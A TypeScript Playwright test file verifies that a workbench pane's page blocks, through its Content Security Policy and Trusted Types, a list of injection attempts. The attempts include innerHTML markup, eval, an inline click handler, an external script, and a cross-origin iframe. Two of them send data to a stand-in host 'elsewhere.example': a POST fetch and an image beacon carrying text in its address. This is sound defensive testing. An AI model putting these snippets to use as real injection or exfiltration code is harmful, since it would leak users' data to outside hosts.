/**
 * What the built pages refuse, whatever runs in them. That they need nothing of it themselves is shown by every other
 * browser test: browser.ts fails the one in which a page had something refused, or asked another host.
 */
import type { BrowserContext, Frame } from "playwright-core";
import { closeBrowser, describeInBrowser, newContext, origin } from "./browser";

afterAll(closeBrowser);

type Attempt = (frame: Frame) => Promise<unknown>;

/** What is tried, and the words by which the browser names what forbids it. */
const ATTEMPTS: readonly (readonly [what: string, forbidden: string, attempt: Attempt])[] = [
  [
    "text as markup",
    "requires 'TrustedHTML'",
    (frame) =>
      frame.evaluate(() => {
        document.body.innerHTML = "<b>đậm</b>";
      }),
  ],
  [
    "text as a script",
    "requires 'TrustedScript'",
    // In a task of the page's own: what a test evaluates may itself evaluate.
    (frame) =>
      frame.evaluate(
        () =>
          new Promise((done, failed) => {
            setTimeout(() => {
              try {
                done(window.eval("1 + 1"));
              } catch (error) {
                failed(new Error(String(error)));
              }
            });
          }),
      ),
  ],
  [
    "markup that was read elsewhere and brings a handler with it",
    "script-src",
    (frame) =>
      frame.evaluate(() => {
        const markup = "<button onclick='window.ran = true'>x</button>";
        const { body } = new DOMParser().parseFromString(markup, "text/html");
        document.body.append(...body.childNodes);
        document.querySelector<HTMLElement>("[onclick]")?.click();
        if (!("ran" in window)) throw new Error("refused");
      }),
  ],
  [
    "a script from another host",
    "requires 'TrustedScriptURL'",
    (frame) =>
      frame.evaluate(() => {
        document.createElement("script").src = "https://elsewhere.example/x.js";
      }),
  ],
  [
    "a request to another host",
    "connect-src",
    (frame) =>
      frame.evaluate(() => fetch("https://elsewhere.example/collect", { method: "POST", body: "x" })),
  ],
  [
    "a picture from another host, which can carry a text away in its address",
    "img-src",
    (frame) =>
      frame.evaluate(async () => {
        const image = new Image();
        image.src = "https://elsewhere.example/x.png?text=bao-cao";
        const answered = new Promise((failed) => (image.onerror = failed));
        document.body.append(image);
        await answered;
        throw new Error("refused");
      }),
  ],
  [
    "a frame of another host",
    "frame-src",
    (frame) =>
      frame.evaluate(async () => {
        const inner = document.createElement("iframe");
        inner.src = "https://elsewhere.example/";
        const answered = new Promise((resolve) => (inner.onload = resolve));
        document.body.append(inner);
        await answered;
        // What was refused shows a page of the browser's own, and has no window that is ours to read.
        if (inner.contentDocument === null) throw new Error("refused");
      }),
  ],
];

describeInBrowser("The pane's page refuses", () => {
  let context: BrowserContext;
  const noted: string[] = [];
  let frame: Frame;

  beforeAll(async () => {
    context = await newContext({}, noted);
  });

  beforeEach(async () => {
    noted.length = 0;
    const page = await context.newPage();
    await page.goto(`${origin()}/workbench.html`);
    await page.waitForSelector("html[data-ready]");
    await page.evaluate(() => window.workbench?.showPane());
    await page.frameLocator("#pane-body iframe").getByRole("tab").first().waitFor();
    const found = await (await page.waitForSelector("#pane-body iframe")).contentFrame();
    if (!found) throw new Error("the pane has no frame");
    frame = found;
  });

  test.each(ATTEMPTS)("%s", async (_, forbidden, attempt) => {
    await expect(attempt(frame)).rejects.toThrow();
    // The console tells of it in a later task.
    while (!noted.some((line) => line.includes(forbidden))) await frame.page().waitForTimeout(20);
  });
});
